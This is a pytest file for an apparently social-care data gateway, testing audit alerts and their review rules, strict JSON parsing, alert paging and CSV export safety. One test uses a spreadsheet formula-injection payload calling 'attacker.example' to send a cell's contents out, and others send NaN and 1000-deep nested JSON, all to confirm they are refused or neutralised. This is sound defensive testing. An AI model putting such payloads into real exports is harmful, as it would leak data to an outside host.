"""Who watches the watchers, and input that once blinded them: the red team's findings replayed
against the service. Alerts about overseers go to the DPO; nobody reviews an alert about their own
action; a review names a real alert and says something; NaN, Infinity and deep nesting are refused
before any route parses them; audit CSV exports never hand a spreadsheet a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st

from audit.store import new_event
from gateway.api.app import create_app
from gateway.api.request_limits import MAX_DEPTH, nesting_depth, strict_json_problem
from gateway.config import Settings
from gateway.policy.justification import justification_problem
from gateway.spreadsheet import FORMULA_PREFIXES, neutralise
from tests.conftest import bearer


@pytest.fixture
def gateway(tmp_path: Path):
    with TestClient(create_app(Settings(data_dir=tmp_path))) as c:
        yield c, tmp_path


def _break_glass_event(store, actor: str, roles: list[str]) -> dict:
    return store.append(
        new_event(
            actor=actor,
            roles=roles,
            action="flags.read",
            subject_ids=["P1"],
            purpose="child_protection_enquiry",
            decision="allow",
            reason="child disclosed an injury at school today",
            break_glass=True,
            status=200,
            time="2026-06-02T10:00:00.000000Z",  # a Tuesday morning: no out-of-hours alert
        )
    )


def _review(c, root, user: str, audit_id: str, kind: str = "break_glass", note: str | None = None):
    note = note or "called the social worker, emergency confirmed, no further action"
    body = {"audit_id": audit_id, "kind": kind, "note": note}
    return c.post("/v1/audit/alerts/review", json=body, headers=bearer(root, user))


def test_an_ig_officer_cannot_review_an_alert_about_their_own_action(gateway):
    c, root = gateway
    own = _break_glass_event(c.app.state.services.audit, "ig.olu", ["ig_officer"])
    refused = _review(c, root, "ig.olu", own["id"])
    assert refused.status_code == 403 and "own action" in refused.json()["detail"]
    # nor can another IG officer's peer: alerts about overseers are the DPO's
    assert "self_approval" in {
        a["kind"] for a in c.get("/v1/audit/alerts", headers=bearer(root, "dpo.dana")).json()["alerts"]
    }
    ok = _review(c, root, "dpo.dana", own["id"])
    assert ok.status_code == 200, ok.text


def test_overseer_alerts_are_visible_to_the_dpo_only(gateway):
    c, root = gateway
    about_ig = _break_glass_event(c.app.state.services.audit, "ig.olu", ["ig_officer"])
    about_cw = _break_glass_event(c.app.state.services.audit, "cw.ben", ["caseworker"])
    ig_view = c.get("/v1/audit/alerts", headers=bearer(root, "ig.olu")).json()["alerts"]
    dpo_view = c.get("/v1/audit/alerts", headers=bearer(root, "dpo.dana")).json()["alerts"]
    assert {a["audit_id"] for a in ig_view} == {about_cw["id"]}
    assert {about_ig["id"], about_cw["id"]} <= {a["audit_id"] for a in dpo_view}
    assert [a["overseer"] for a in dpo_view if a["audit_id"] == about_ig["id"]] == [True, True]
    # an IG officer cannot review an overseer's alert even when it is not their own
    assert _review(c, root, "ig.olu", about_ig["id"]).status_code == 403


def test_an_ordinary_event_cannot_be_marked_as_a_reviewed_break_glass_alert(gateway):
    c, root = gateway
    ordinary = c.get("/v1/me", headers=bearer(root, "cw.alice"))
    refused = _review(c, root, "ig.olu", ordinary.headers["x-audit-id"])
    assert refused.status_code == 404 and "raised no break_glass alert" in refused.json()["detail"]


@pytest.mark.parametrize("note", ["", "     ", "ok", "aaaaaaaaaaaaaaaaaaaa", "checked checked checked"])
def test_a_review_needs_a_note_that_says_something(gateway, note):
    c, root = gateway
    alert = _break_glass_event(c.app.state.services.audit, "cw.ben", ["caseworker"])
    refused = _review(c, root, "ig.olu", alert["id"], note=note or " ")
    assert refused.status_code == 422, refused.text
    reviews = c.get("/v1/audit/events", headers=bearer(root, "ig.olu")).json()["events"]
    marked = [e for e in reviews if e["action"] == "audit.alert_review" and e["decision"] == "allow"]
    assert not marked


def test_an_ig_subject_search_out_of_hours_raises_an_alert_for_the_dpo(gateway):
    c, root = gateway
    looked = c.get("/v1/audit/subjects/P123", headers=bearer(root, "ig.olu"))
    assert looked.status_code == 200
    event = next(
        e
        for e in c.get("/v1/audit/events", headers=bearer(root, "dpo.dana")).json()["events"]
        if e["id"] == looked.headers["x-audit-id"]
    )
    assert event["subject_ids"] == ["P123"]  # the look-up is an access to P123
    # the same look-up at 05:09 on a Wednesday
    store = c.app.state.services.audit
    fields = {k: event[k] for k in ("actor", "roles", "action", "resource", "subject_ids")}
    early = store.append(
        new_event(**fields, decision="allow", status=200, time="2026-06-03T04:09:00.000000Z")
    )
    alerts = c.get("/v1/audit/alerts", headers=bearer(root, "dpo.dana")).json()["alerts"]
    assert ("out_of_hours", early["id"]) in {(a["kind"], a["audit_id"]) for a in alerts}


def test_overseer_volume_and_self_approval_attempts_raise_alerts(tmp_path):
    settings = Settings(data_dir=tmp_path)
    with TestClient(create_app(settings)) as c:
        store = c.app.state.services.audit
        for i in range(61):
            store.append(
                new_event(
                    actor="ig.olu",
                    roles=["ig_officer"],
                    action="audit.events",
                    decision="allow",
                    status=200,
                    time=f"2026-06-02T10:{i % 60:02d}:00.000000Z",
                )
            )
        store.append(
            new_event(
                actor="ig.olu",
                roles=["ig_officer"],
                action="extracts.approve",
                decision="deny",
                reason="nobody may approve their own extract request (self-approval)",
                status=403,
            )
        )
        kinds = {
            (a["kind"], a["actor"])
            for a in c.get("/v1/audit/alerts", headers=bearer(tmp_path, "dpo.dana")).json()["alerts"]
        }
    assert ("overseer_volume", "ig.olu") in kinds and ("self_approval", "ig.olu") in kinds


@pytest.mark.parametrize(
    "body",
    [
        b'{"dataset": "persons", "group_by": ["ward"], "filters": {"age": NaN}}',
        b'{"dataset": "persons", "group_by": ["ward"], "filters": {"age": Infinity}}',
        b'{"dataset": "persons", "group_by": ["ward"], "filters": {"age": -Infinity}}',
        b'{"dataset": "persons", "filters": ' + b"[" * 1000 + b"]" * 1000 + b"}",
    ],
)
def test_nan_infinity_and_deep_nesting_are_refused_before_any_route(gateway, body):
    c, root = gateway
    headers = {**bearer(root, "an.priya"), "Content-Type": "application/json"}
    r = c.post("/v1/aggregates", content=body, headers=headers)
    assert r.status_code == 400 and r.json()["error"] == "invalid_json", r.text
    # the refusal is audited, and the review pages still answer for everyone afterwards
    ig = bearer(root, "ig.olu")
    for query in ("", "?actor=an.priya", "?decision=deny"):
        listing = c.get(f"/v1/audit/events{query}", headers=ig)
        assert listing.status_code == 200, listing.text
    refused = listing.json()["events"][0]
    assert refused["actor"] == "an.priya" and refused["status"] == 400


def test_a_formula_in_a_purpose_never_reaches_the_csv_export_as_a_formula(gateway):
    c, root = gateway
    payload = '=HYPERLINK("http://attacker.example/?"&B2,"Click")'
    c.get("/v1/caseload", params={"purpose": payload})  # no token: refused, and audited
    export = c.get("/v1/audit/events", params={"format": "csv"}, headers=bearer(root, "ig.olu"))
    rows = list(csv.DictReader(io.StringIO(export.text)))
    purposes = [r["purpose"] for r in rows if "HYPERLINK" in r["purpose"]]
    assert purposes == ["'" + payload]
    assert not [v for r in rows for v in r.values() if v and v.startswith(FORMULA_PREFIXES)]


@given(st.text())
def test_neutralised_cells_never_start_with_a_formula_prefix_and_keep_their_text(value):
    cell = neutralise(value)
    assert not cell.startswith(FORMULA_PREFIXES)
    assert cell == value or cell == "'" + value


@given(
    st.recursive(
        st.none() | st.integers() | st.text(),
        lambda kids: st.lists(kids) | st.dictionaries(st.text(), kids),
        max_leaves=40,
    )
)
def test_nesting_depth_matches_the_parsed_structure(doc):
    def depth(v) -> int:
        if isinstance(v, list):
            return 1 + max((depth(x) for x in v), default=0)
        if isinstance(v, dict):
            return 1 + max((depth(x) for x in v.values()), default=0)
        return 0

    body = json.dumps(doc).encode()
    assert nesting_depth(body) == depth(doc)
    assert (strict_json_problem(body) is None) == (depth(doc) <= MAX_DEPTH)


@pytest.mark.parametrize(
    ("text", "ok"),
    [
        ("aaaaaaaaaaaaaaaaaaaa", False),
        ("emergency emergency emergency emergency", False),
        ("x y z w v u t s r q p", False),
        ("Teacher reports Zoë has bruises on her arm", True),
        ("Mum’s partner returned; police called at 02:00", True),
        ("Owes £500 rent, bailiffs due tomorrow morning", True),
    ],
)
def test_a_justification_needs_words(text, ok):
    assert (justification_problem(text, min_words=4, what="the reason") is None) == ok


def test_alerts_page_through_and_narrow_by_kind(gateway):
    """65 alerts on one page did not scale: the API pages them, counts each kind and narrows to one, and
    the IG page shows a page at a time with a link per kind."""
    c, root = gateway
    ids = [_break_glass_event(c.app.state.services.audit, "cw.ben", ["caseworker"])["id"] for _ in range(7)]
    ig = bearer(root, "ig.olu")
    every = c.get("/v1/audit/alerts", params={"kind": "break_glass"}, headers=ig).json()
    assert every["total"] >= 7 and every["kinds"]["break_glass"] == every["total"]
    assert {a["kind"] for a in every["alerts"]} == {"break_glass"}
    first = c.get("/v1/audit/alerts", params={"kind": "break_glass", "limit": 3}, headers=ig).json()
    second = c.get(
        "/v1/audit/alerts", params={"kind": "break_glass", "limit": 3, "offset": 3}, headers=ig
    ).json()
    assert len(first["alerts"]) == len(second["alerts"]) == 3 and first["total"] == every["total"]
    assert [a["audit_id"] for a in first["alerts"] + second["alerts"]] == [
        a["audit_id"] for a in every["alerts"][:6]
    ]
    assert set(ids) <= {a["audit_id"] for a in every["alerts"]}
    refused = c.get("/v1/audit/alerts", params={"kind": "Break Glass"}, headers=ig)
    assert refused.status_code == 422


def test_the_alerts_page_shows_a_page_at_a_time_with_kinds(gateway):
    from gateway.identity.dev_issuer import sign_token
    from gateway.identity.users import load_demo_users
    from gateway.web.session import COOKIE

    c, root = gateway
    for _ in range(55):
        _break_glass_event(c.app.state.services.audit, "cw.ben", ["caseworker"])
    ig = bearer(root, "ig.olu")
    total = c.get("/v1/audit/alerts", params={"status": "open"}, headers=ig).json()["total"]
    olu = load_demo_users(Settings().policies_dir).get("ig.olu")
    c.cookies.set(COOKIE, sign_token(root, olu), path="/ui")
    try:
        first = c.get("/ui/alerts", params={"status": "open"})
        last = c.get("/ui/alerts", params={"status": "open", "page": 99})
        narrowed = c.get("/ui/alerts", params={"status": "open", "kind": "break_glass"})
    finally:
        c.cookies.clear()
    pages = -(-total // 50)
    assert first.status_code == 200 and first.text.count('data-testid="alert"') == 50
    assert f"page 1 of {pages}" in first.text and 'data-testid="older"' in first.text
    assert last.text.count('data-testid="alert"') == total - 50 * (pages - 1)
    assert 'data-testid="newer"' in last.text and 'data-testid="older"' not in last.text
    assert "Break-glass used (" in narrowed.text and 'kind="break_glass"' in narrowed.text
